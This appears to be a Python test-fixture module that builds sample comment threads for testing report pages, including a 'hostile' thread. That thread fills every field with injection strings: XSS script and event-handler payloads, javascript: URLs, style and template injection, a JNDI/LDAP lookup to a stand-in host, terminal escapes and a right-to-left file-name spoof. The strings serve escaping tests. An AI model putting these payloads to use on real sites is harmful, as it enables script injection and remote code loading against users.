"""Threads made for tests of pages: a small one with every kind of link and mark, a hostile one, long ones."""

from __future__ import annotations

from itertools import pairwise
from pathlib import Path

import threads
from threads.links.measured import measured
from threads.model import Comment, Link, Note, Post, Source, Thread
from threads.reports import Report

SAMPLES = Path(__file__).parent.parent / "samples"
SOURCE = Source(name="larkmouth.json", format="thread", sha256="0" * 64, bytes=0)
SAID = "No, that is simply not true. Perhaps you are wrong about the ferry."

OVERRIDE, ISOLATE = "\u202e", "\u2066"
HOSTILE = (
    '<script>window.hit = 1; document.title = "hit"</script><img src=x onerror="window.hit = 2">',
    '"><svg onload=window.hit=3><a href="javascript:window.hit=4">x</a>',
    "' onmouseover='window.hit=5' x='",
    "</style><style>body { display: none }</style>",
    '</title></textarea></svg><iframe srcdoc="<script>parent.hit=6</script>"></iframe>',
    "{{ 7 * 7 }} {% for x in y %} {# ${jndi:ldap://larkmouth.example/x}",
    "\x1b[31mred\x1b]0;title\x07 \x1b[2J\x00\x85",
    f"ferry{OVERRIDE}gpj.exe {ISOLATE}and on",
    "<!-- --> ]]> <![CDATA[ x ]]> <?php",
    "A" * 3000,
    "שלום עולם, אני חושב שזה לא נכון. (Perhaps.)",
    "<link rel=stylesheet href=http://larkmouth.example/x.css><img src=//larkmouth.example/p.png>"
    "<meta http-equiv=refresh content='0;url=http://larkmouth.example'>",
    "| a | b |\n|---|---|\n# heading\n- item\n1. one\n```\ncode\n![x](http://larkmouth.example/p.png)\n    four",
    "[link](javascript:window.hit=7) <http://larkmouth.example> **bold** _it_ `code` &lt;b&gt; $x$ ~~gone~~",
)


def ferry() -> tuple[Report, Thread]:
    """The sample that README shows: links by quote, mention, order and answer, stances and patterns."""
    [thread] = threads.parse(SAMPLES / "text" / "ferry.txt")
    return threads.report(thread), thread


def hostile() -> tuple[Report, Thread]:
    """A thread in which every text that a page shows tries to become markup, script or style."""
    comments = tuple(
        Comment(
            id=f'c{n}"><script>window.hit = 9</script>',
            author=text,
            created_at=f"2024-03-14T10:{n:02d}:00" if n else None,
            created_at_text=text,
            text=f"{text}\n\n{SAID}",
        )
        for n, text in enumerate(HOSTILE)
    )
    links = tuple(
        Link(child_id=child.id, parent_id=parent.id, basis="order" if n % 2 else "stated", fact=HOSTILE[n])
        for n, (parent, child) in enumerate(pairwise(comments))
    )
    thread = Thread(
        id="<script>window.hit = 10</script>",
        source=SOURCE.model_copy(update={"name": '"><script>window.hit = 11</script>.html'}),
        title=HOSTILE[0] + HOSTILE[1],
        url="javascript:window.hit=12",
        platform=HOSTILE[1],
        nesting="stated",
        post=Post(author=HOSTILE[1], created_at="2024-03-14", text=HOSTILE[0]),
        comments=comments,
        links=links,
        notes=(
            Note(code="hostile", message=HOSTILE[0], comment_id=comments[1].id),
            Note(code="hostile", message=HOSTILE[4]),
        ),
    )
    return threads.report(thread), thread


def long(comments: int, *, chain: bool = False) -> tuple[Report, Thread]:
    """Conversations of 40 comments each, with branches; or one chain of replies."""
    made, links = [], []
    for n in range(comments):
        minute = n * 7
        time = f"2024-03-{1 + minute // 1440 % 28:02d}T{minute // 60 % 24:02d}:{minute % 60:02d}:00"
        made.append(Comment(id=f"c{n}", author=f"Reader {n % 17}", created_at=time, text=f"Comment {n}. {SAID}"))
        parent = n - 1 if chain else n - 1 - (n % 40) // 3
        if n % 40 or (chain and n):
            links.append(Link(child_id=f"c{n}", parent_id=f"c{parent}", basis="stated"))
    thread = Thread(
        id="long", source=SOURCE, title="The ferry", nesting="stated", comments=tuple(made), links=tuple(links)
    )
    return threads.report(thread, patterns=["hedge"]), thread


def right_quotes() -> str:
    """How often links by quotation are right, as reports say it of the committed counts."""
    counts = measured()["quote"]
    right, found = sum(one.right for one in counts), sum(one.found for one in counts)
    return f"right in {100 * right / found:.1f} % of {found:,}"


def long_names() -> tuple[Report, Thread]:
    """People with names of many letters who disagree in many words: the cells of tables are as wide as usual."""
    people = ("Bartholomew Featherstonehaugh-Cholmondeley", "Wilhelmina Okafor-Quill", "Konstantin Renn")
    said = "No, that is simply not true. According to the harbour report the ferry pays for itself. " * 3
    made = tuple(Comment(id=f"c{n}", author=people[n % 3], text=said) for n in range(48))
    links = tuple(Link(child_id=b.id, parent_id=a.id, basis="stated") for a, b in pairwise(made))
    thread = Thread(id="names", source=SOURCE, title="The ferry", nesting="stated", comments=made, links=links)
    return threads.report(thread), thread
